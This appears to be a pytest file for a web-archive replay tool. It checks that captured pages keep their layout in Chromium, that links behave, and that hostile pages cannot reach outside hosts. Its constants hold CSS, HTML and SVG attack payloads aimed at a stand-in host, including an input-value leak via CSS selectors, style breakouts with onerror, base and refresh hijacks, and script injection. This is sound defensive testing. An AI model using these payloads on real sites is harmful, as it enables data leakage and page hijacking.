"""In Chromium a captured page looks as the live one does, leads to others, and asks nobody for anything."""

from __future__ import annotations

import re
from collections.abc import Iterator
from contextlib import ExitStack, closing
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, Request

from archive.store.folder import DataFolder
from archive.warc.captures import Capture
from tests.replica.pages import SKINS
from tests.replica.server import ReplicaServer
from tests.replica.site import Answer, Site, answer_of
from tests.support.archives.shelf import Shelf
from tests.support.browser.page_with_requisites import put_page
from tests.support.browser.reader import DESKTOP, PHONE, Look, Reader, chromium
from tests.support.sampled import later, sampled
from tests.support.served import PATIENT, Served, running

EVERYDAY = "wordpress"
# What scripts do to pages of the stand-in, and captured pages show without them.
_AFTER_SCRIPTS = """() => { for (const image of document.images) {
    image.loading = "eager";
    if (image.dataset.src) { image.src = image.dataset.src; image.classList.replace("lazyload", "lazyloaded"); }
} const pictures = [...document.images].map(image => image.decode().catch(() => 0));
return Promise.all([...pictures, document.fonts.ready]); }"""
_BOXES = """() => [...document.querySelectorAll("body, body *:not(script, noscript, style, br)")].map(element => {
    const box = element.getBoundingClientRect(), style = getComputedStyle(element);
    const looks = ["color", "backgroundColor", "backgroundRepeat", "fontFamily", "fontSize", "fontWeight", "display"];
    return [element.tagName, ["x", "y", "width", "height"].map(side => Math.round(box[side])),
            looks.map(name => style[name]), style.backgroundImage != "none"];
})"""

_OF_TESTS = "Blocked script execution"  # what looks into the frame are scripts

ELSEWHERE = "http://elsewhere.invalid"
ATTACKS = f"""@import "{ELSEWHERE}/a.css"; @import url(//elsewhere.invalid/b.css) layer(x); @import "/lv/cita";
@font-face {{ font-family: x; src: url({ELSEWHERE}/f.woff2) }} @namespace url({ELSEWHERE}/n);
body {{ font-family: x, serif; background: \\75\\52l({ELSEWHERE}/1.png), u\\72l("/search?q=a") }}
p {{ background-image: image-set("{ELSEWHERE}/2.png" 1x, url({ELSEWHERE}/3.png) 2x) }}
p {{ cursor: url({ELSEWHERE}/4.cur), auto }}
:root {{ --x: url({ELSEWHERE}/5.png) }} div {{ background: var(--x); list-style: url(//elsewhere.invalid/6.png) }}
input[value^="s"] {{ background: url({ELSEWHERE}/7?s) }} a:visited {{ background: url({ELSEWHERE}/8) }}
li {{ behavior: url({ELSEWHERE}/9.htc); -moz-binding: url({ELSEWHERE}/10.xml#x); width: expression(ran("css")) }}
span::before {{ content: url({ELSEWHERE}/11.svg) "</style><img src={ELSEWHERE}/12.png onerror=ran('string')>" }}
em {{ mask: url({ELSEWHERE}/13.svg#m); filter: url("{ELSEWHERE}/14.svg#f"); shape-outside: url({ELSEWHERE}/15.png) }}
#over {{ position: fixed; inset: 0; width: 99999px; height: 99999px; z-index: 2147483647; background: red }}
i {{ color: green; background: url({ELSEWHERE}/16.png) }} b {{ background: url('{ELSEWHERE}/17.png' }}
b {{ background: url({ELSEWHERE}/18.png"""
PAGE = f"""<!doctype html><title>a</title><link rel=stylesheet href=http://SITE/a.css>
<link rel=stylesheet href={ELSEWHERE}/19.css>
<link rel=preconnect href={ELSEWHERE}><link rel=dns-prefetch href={ELSEWHERE}><link rel=icon href={ELSEWHERE}/19.ico>
<meta http-equiv=refresh content="0;url={ELSEWHERE}/20"><base href="{ELSEWHERE}/"><base target=_top>
<script>ran("script")</script><body background={ELSEWHERE}/21.png onload="ran('load')">
<p style="background:url({ELSEWHERE}/22.png)">p<div>d</div><li>l</li><span>s</span><em>e</em><b>b</b><i>i</i>
<a id=js href="javascript:ran('link')" ping={ELSEWHERE}/23>a</a><a id=out href={ELSEWHERE}/24>a</a>
<form action=/search method=post><input name=q value=secret autofocus onfocus="ran('focus')">
<button id=send>s</button></form>
<iframe src={ELSEWHERE}/25 srcdoc="<script>parent.ran('srcdoc')</script>"></iframe><object data={ELSEWHERE}/26></object>
<img src={ELSEWHERE}/27.png srcset="{ELSEWHERE}/28.png 2x" onerror="ran('image')"><img id=drawing src=http://SITE/a.svg>
<svg width=9 height=9><image href={ELSEWHERE}/29.png /><use href={ELSEWHERE}/30.svg#a /><style>p{{color:red}}</style>
<rect fill="url({ELSEWHERE}/31.svg#a)" width=9 height=9 /></svg>
<video src={ELSEWHERE}/32.mp4 poster={ELSEWHERE}/33.png autoplay></video>
<audio src={ELSEWHERE}/34.mp3 autoplay></audio><embed src={ELSEWHERE}/35>
<noscript><img src={ELSEWHERE}/36.png></noscript>
<section><template shadowrootmode=open><img src={ELSEWHERE}/37.png></template></section><div id=over></div>"""
DRAWING = f"""<svg xmlns="http://www.w3.org/2000/svg" width="30" height="20" onload="ran('svg')">
<script>ran("svg")</script>
<style>@import "{ELSEWHERE}/38.css";</style><image href="{ELSEWHERE}/39.png" width="5" height="5"/>
<foreignObject><img xmlns="http://www.w3.org/1999/xhtml" src="{ELSEWHERE}/40.png"/></foreignObject></svg>"""


def hostile(path: str) -> Answer:
    """A site whose page, style sheet and drawing attack whoever shows them."""
    if path == "/a.css":
        return answer_of(ATTACKS.encode(), "text/css")
    if path == "/a.svg":
        return answer_of(DRAWING.encode(), "image/svg+xml")
    return answer_of(PAGE.encode(), "text/html; charset=utf-8", status=200 if path == "/" else 404)


class Stand:
    """Archived pages, served, and the sites that they are of."""

    def __init__(self, folder: Path) -> None:
        self.closing = ExitStack()
        self.shelf = self.closing.enter_context(closing(Shelf(DataFolder(folder))))
        self.browser: Browser = self.closing.enter_context(chromium())
        self.served: Served = self.closing.enter_context(running("archive", "serve", "--data", folder, *PATIENT))

    def site(self, handler: Any) -> str:
        """Serve a site; its address."""
        return self.closing.enter_context(ReplicaServer(handler)).url

    def put(self, handler: Any, host: str, path: str) -> Capture:
        return put_page(self.shelf, handler, host, path)

    def reader(self, look: Look = Look(), **more: bool) -> Reader:  # noqa: B008  # it cannot be changed
        """Somebody who reads the archive."""
        return Reader(self.browser, self.served.url, look, **more)


@pytest.fixture(scope="module")
def stand(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Stand]:
    made = Stand(tmp_path_factory.mktemp("looks") / "data")
    with made.closing:
        yield made


def boxes(reader: Reader) -> list[Any]:
    reader.page.evaluate(_AFTER_SCRIPTS)
    found: list[Any] = reader.page.evaluate(_BOXES)
    return found


@pytest.mark.parametrize("width", [later(DESKTOP), PHONE])
@pytest.mark.parametrize("skin", sampled(SKINS, {EVERYDAY}))
def test_a_captured_page_has_the_layout_of_the_live_one(skin: str, width: int, stand: Stand) -> None:
    site = Site(skin)
    host, path = stand.site(site), next(one.path for one in site.articles if one.id == "lv-104")
    capture = stand.put(site, host, path)
    # One skin hides its text from whoever runs no scripts.
    live = Reader(stand.browser, host, Look(width=width), scripts=skin != "scripted")
    live.open(path)
    ours = stand.reader(Look(width=width))
    ours.open(f"/capture/{capture.id}/page")
    expected, found = boxes(live), boxes(ours)
    assert len(found) == len(expected) > 100
    for theirs, one in zip(expected, found, strict=True):
        assert one[0] == theirs[0]
        assert one[2:] == theirs[2:], one
        assert all(abs(here - there) <= 2 for here, there in zip(one[1], theirs[1], strict=True)), (one, theirs)
    assert ours.noticed == []
    live.close()
    ours.close()


@pytest.mark.parametrize("look", [Look("lv"), Look("en", PHONE)], ids=str)
def test_a_click_leads_to_the_next_capture_and_a_dead_link_nowhere(look: Look, stand: Stand) -> None:
    site = Site(EVERYDAY)
    host = stand.site(site)
    first, second = (stand.put(site, host, one.path) for one in site.articles if one.id in ("lv-104", "lv-kontakti"))
    reader = stand.reader(look)
    reader.open(f"/capture/{first.id}")
    frame = reader.page.frame_locator("iframe")
    dead = frame.locator("a[aria-disabled]").first
    assert str(dead.get_attribute("title")).startswith("Nav saglabāts: ")
    dead.evaluate("element => element.click()")
    assert reader.page.url.endswith(f"/capture/{first.id}")
    assert len({one.url.partition("#")[0] for one in reader.page.frames}) == 2
    with reader.page.expect_navigation():
        frame.locator(f'a[href="/capture/{second.id}"]').first.click()
    assert reader.page.url.endswith(f"/capture/{second.id}")
    assert reader.page.evaluate("document.documentElement.scrollWidth") <= look.width
    assert [one for one in reader.noticed if _OF_TESTS not in one] == []
    reader.close()


def test_the_attacks_are_sharp(stand: Stand) -> None:
    victim = Reader(stand.browser, stand.site(hostile), unprotected=True)
    ran: list[object] = []
    victim.tell_when_run(ran)
    victim.page.set_content(PAGE.replace(f'<meta http-equiv=refresh content="0;url={ELSEWHERE}/20">', ""))
    victim.page.wait_for_timeout(300)
    victim.close()
    assert len(set(map(str, ran))) > 3
    assert len([one for one in victim.noticed if ELSEWHERE in one]) > 8


def test_a_hostile_page_asks_nobody_for_anything(stand: Stand) -> None:
    host = stand.site(hostile)
    page = PAGE.replace("http://SITE", host)

    def handler(path: str) -> Answer:
        return hostile(path) if path != "/" else answer_of(page.encode(), "text/html; charset=utf-8")

    stand.shelf.put(b"<p>cita", "text/html", path="/lv/cita", host=host)
    stand.shelf.put(ATTACKS.encode(), "text/css", path="/a.css", host=host)
    stand.shelf.put(DRAWING.encode(), "image/svg+xml", path="/a.svg", host=host)
    capture = stand.put(handler, host, "/")
    asked: list[str] = []

    def note(request: Request) -> None:
        asked.append(request.url)

    for path in (f"/capture/{capture.id}", f"/capture/{capture.id}/page"):
        victim = stand.reader()
        ran: list[object] = []
        asked.clear()
        victim.tell_when_run(ran)
        victim.page.on("request", note)
        victim.open(path)
        is_framed = path.endswith(capture.id)
        frame = victim.page.frames[1] if is_framed else victim.page.main_frame
        for link in ("#js", "#out", "#send"):
            frame.locator(link).evaluate("element => element.click()")
        victim.page.wait_for_timeout(100)
        assert ran == []
        ours = f"{victim.site}/"
        assert {one for one in asked if not one.startswith((ours, "data:", "about:"))} == set()
        other = re.compile(r"(?!capture/[^/?]+(/page|/style/[^/?]+)?$|requisite/[^/?]+$|assets/|favicon\.ico$)")
        assert [one for one in asked if one.startswith(ours) and other.match(one.removeprefix(ours))] == []
        assert victim.page.url.partition("#")[0] == f"{victim.site}{path}"
        assert [one for one in asked if f"/capture/{capture.id}/style/" in one]
        assert frame.locator("#drawing").evaluate("element => element.naturalWidth") == 30
        assert frame.locator("i").evaluate("element => getComputedStyle(element).color") == "rgb(0, 128, 0)"
        if is_framed:
            # What lies over all of the page lies over none of ours.
            box = victim.page.locator("iframe").bounding_box()
            assert box
            tag = victim.page.evaluate("y => document.elementFromPoint(100, y).tagName", box["y"] - 20)
            assert tag != "IFRAME"
        victim.close()
